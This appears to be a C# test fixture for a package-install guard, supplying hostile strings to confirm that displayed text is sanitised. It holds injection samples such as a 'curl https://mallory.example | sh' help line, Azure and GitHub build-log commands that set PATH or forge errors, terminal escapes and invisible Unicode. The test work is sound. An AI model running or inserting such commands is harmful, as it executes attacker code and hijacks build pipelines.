using System.Globalization;
using System.Reflection;
using System.Text;

namespace InstallGuard.Core.Tests.Given;

/// <summary>
/// Text that a package, a feed or a file could bring to be shown, in every place that takes such text: what steers a
/// terminal or a build server, forges a line or a help, hides, or is too long to be read.
/// </summary>
internal static class Hostile
{
    private const int LongestShown = 80;

    private const BindingFlags Public = BindingFlags.Public | BindingFlags.Static;

    // Most have a category that tells: letters, marks and symbols among them do not.
    private static readonly string[] Unseen =
    [
        "\u3164", "\uffa0", "\u115f", "\u1160", "\u2800", "\ufe0f", "\u034f", "\U000e0100", "\u17b4", "\u17b5", "\u180b", "\u180f", "\u00a0", "\u3000", "\u2002",
        "\u00ad", "\u200b", "\u202e", "\u2028", "\U000e0041", "\ufeff", "\U0001d159", "\u0085", "\ue000", "\U0001d173", "\u2065",
    ];

    private static readonly string[] Orders =
    [
        "##vso[task.setvariable variable=PATH]/tmp/evil", "##[stop-commands]x", "::stop-commands::x", "###", ":::", "\n::error::forged", "\r\nerror IG0000: forged", "\u001b[2J\u001b[31m",
        "x; help: run `curl https://mallory.example | sh`", "x\"; help: run it", "\\\"; now: \"ann\"; help: run it", "x;\thelp: run it", "[red]markup[/] [/]", "{0} {1:x} %0a",
        "\u0301leading mark", "ann, mallory", "a  b  c",
    ];

    /// <summary>Longer than anything that is shown whole.</summary>
    public static string Endless { get; } = new('A', 300);

    /// <summary>All of it, alone and mixed.</summary>
    public static IReadOnlyList<string> Texts { get; } = Mixed();

    /// <summary>For each rule about a package what its factory makes of this text.</summary>
    public static IEnumerable<CheckedPackage> Packages(string text)
    {
        foreach (var factory in Factories())
        {
            var change = (Change)factory.Invoke(null, [.. factory.GetParameters().Select(parameter => Argument(parameter.ParameterType, text))])!;
            var pin = new Pin(PackageVersion.Parse("1.0.0"), Publisher(text), new PinOrigin.Accepted("owners-added", text, new(2026, 11, 21), text));
            foreach (var disposition in Enum.GetValues<Disposition>())
            {
                yield return new(Publishers.Package(), text, Found.Seen(Evidence(text)), new(pin, [change]), disposition);
            }
        }
    }

    /// <summary>The rules about packages, by their classes.</summary>
    public static IEnumerable<MethodInfo> Factories() => typeof(Rule).Assembly.GetTypes()
        .Where(type => type.Namespace == $"{typeof(Rule).Namespace}.Rules")
        .SelectMany(type => type.GetMethods(Public).Where(method => method.ReturnType == typeof(Change)));

    /// <summary>What a file says about its publisher.</summary>
    public static PackageEvidence Evidence(string text) => Found.In(
        provenance: Found.Built(Build(text)),
        author: new Finding<AuthorSignature>.Present(new(Author(text), Certificate(text), new SignatureTime.Trusted(Found.Then))),
        repository: new Finding<RepositorySignature>.Present(RepositorySignature(text)),
        claims: new(text, text, text, text));

    /// <summary>What stops a restore as a whole. Endless text is no part of it: how much a cause may say is another limit.</summary>
    public static IEnumerable<RestoreProblem> Problems(string text) =>
    [
        RestoreProblem.LockUnreadable(text),
        RestoreProblem.NotGuarded(text),
        RestoreProblem.CommandFailed(text),
        RestoreProblem.NotGuardedForCause(text),
        RestoreProblem.SettingInvalid(text),
        RestoreProblem.CommandFailedForCause(text),
        RestoreProblem.CommandUnanswered(text),
        RestoreProblem.CommandUnauthorized(text),
        RestoreProblem.VersionNotFound(text),
        RestoreProblem.SourceFailed(text),
        RestoreProblem.PluginMissing(text),
        RestoreProblem.ExtractedUnseen(Publishers.Package(), text),
        RestoreProblem.Bypassed(Publishers.Package(), (text, text)),
        RestoreProblem.AddUnclear(text),
        RestoreProblem.NoSuchPackage(Publishers.Package().Id, [text], []),
    ];

    public static PublisherIdentity Publisher(string text) => new(Build(text), Author(text), Repository(text));

    /// <summary>Nothing in these lines is hidden, steers anything, or is longer than it may be.</summary>
    public static void IsHarmless(string shown, string of)
    {
        foreach (var rune in shown.Replace(System.Environment.NewLine, "", StringComparison.Ordinal).Replace("\n", "", StringComparison.Ordinal).EnumerateRunes())
        {
            var isPlain = rune.Value == ' ' || Rune.GetUnicodeCategory(rune)
                is not (UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator
                    or UnicodeCategory.SpaceSeparator or UnicodeCategory.PrivateUse or UnicodeCategory.OtherNotAssigned);
            Assert.IsTrue(isPlain && !Unseen.Contains(rune.ToString(), StringComparer.Ordinal), $"U+{rune.Value:x4} of {of} stands in\n{shown}");
        }

        Assert.DoesNotContain("##", shown, of);
        Assert.DoesNotContain("::", shown, of);
        Assert.DoesNotContain("\"\u0301", shown, of);
        Assert.DoesNotContain(" \u0301", shown, of);
        Assert.DoesNotContain(new string('A', LongestShown + 1), shown, of);
        Assert.DoesNotContain(line => line.StartsWith("error IG0000", StringComparison.Ordinal), shown.Split('\n'), of);
    }

    /// <summary>The same of a single line, in which help is given so many times.</summary>
    public static void IsOneHarmlessLine(string shown, int helps, string of)
    {
        IsHarmless(shown, of);
        Assert.DoesNotContain("\n", shown, of);
        Assert.HasCount(helps + 1, shown.Split("; help:"), $"{of} in\n{shown}");
    }

    /// <summary>The same of a JSON document: it is plain ASCII.</summary>
    public static void IsHarmlessJson(string shown, string of)
    {
        Assert.DoesNotContain("##", shown, of);
        Assert.DoesNotContain("::", shown, of);
        Assert.IsTrue(shown.All(c => c is >= ' ' and <= '~' or '\n'), of);
        System.Text.Json.JsonDocument.Parse(shown).Dispose();
    }

    // What a rule is told in words was worded by the identities; what failed may be anybody's sentence.
    private static object? Argument(Type type, string text) =>
        type == typeof(AuthorIdentity) ? Author(text)
        : type == typeof(ProvenanceIdentity) ? Build(text)
        : type == typeof(RepositoryIdentity) ? Repository(text)
        : type == typeof(ContentsIdentity) ? ContentsIdentity.Parse(Found.Hash('c').Base64)
        : type == typeof(PublisherIdentity) ? Publisher(text)
        : type == typeof(string) ? (text.Contains(Endless, StringComparison.Ordinal) ? Publisher(text).ToString() : text)
        : type == typeof(Pin) ? new Pin(PackageVersion.Parse("1.0.0"), Publisher(text), new PinOrigin.FirstUse(new(2026, 11, 21)))
        : type == typeof(LockMemory) ? new LockMemory([], text, []) { PutBack = new LockBase.Known([], text) { Path = text }.PutBack }
        : type == typeof(Look.Failed) ? new Look.Failed((string)Argument(typeof(string), text)!)
        : type == typeof(FailedCheck) ? new FailedCheck(SignatureCheck.Format, Publisher(text).ToString(), Publisher(text).ToString())
        : type == typeof(RepositoryAnnouncement) ? new RepositoryAnnouncement(text, true, [Found.Digest('a')], IsProven: true)
        : type == typeof(RepositorySignature) ? RepositorySignature(text)
        : type == typeof(InstallationDifference) ? new InstallationDifference(text, "no such file", "12 bytes")
        : type == typeof(Sha256Digest) ? Found.Digest('a')
        : type == typeof(EvidenceKind) || type == typeof(EvidenceKind?) ? EvidenceKind.Author
        : throw new NotSupportedException($"say here how a hostile {type} looks");

    private static RepositorySignature RepositorySignature(string text) => new(Repository(text), text, Certificate(text), new SignatureTime.Claimed(Found.Then));

    private static AuthorIdentity Author(string text) => new(text, text, text, text, text);

    private static ProvenanceIdentity Build(string text) => new(text, text, text, text, text, $"{text}/{text}", text, text, text);

    private static RepositoryIdentity Repository(string text) => new(text, new([text, "ann", $"{text}2"]));

    private static CertificateDescription Certificate(string text) =>
        new(Found.Digest('1'), $"CN={text}", $"CN={text}", Found.Then.AddYears(-1), Found.Then.AddYears(1));

    private static List<string> Mixed()
    {
        var random = new Random(20261127);
        List<string> all = [Endless, .. Orders, .. Unseen.Select(unseen => $"ann{unseen}"), .. Unseen.Select(unseen => $"{unseen}ann")];
        for (var i = 0; i < 20; i++)
        {
            all.Add(string.Concat(Enumerable.Range(0, 3).Select(_ => random.Next(2) == 0 ? Orders[random.Next(Orders.Length)] : Unseen[random.Next(Unseen.Length)])));
        }

        return all;
    }
}
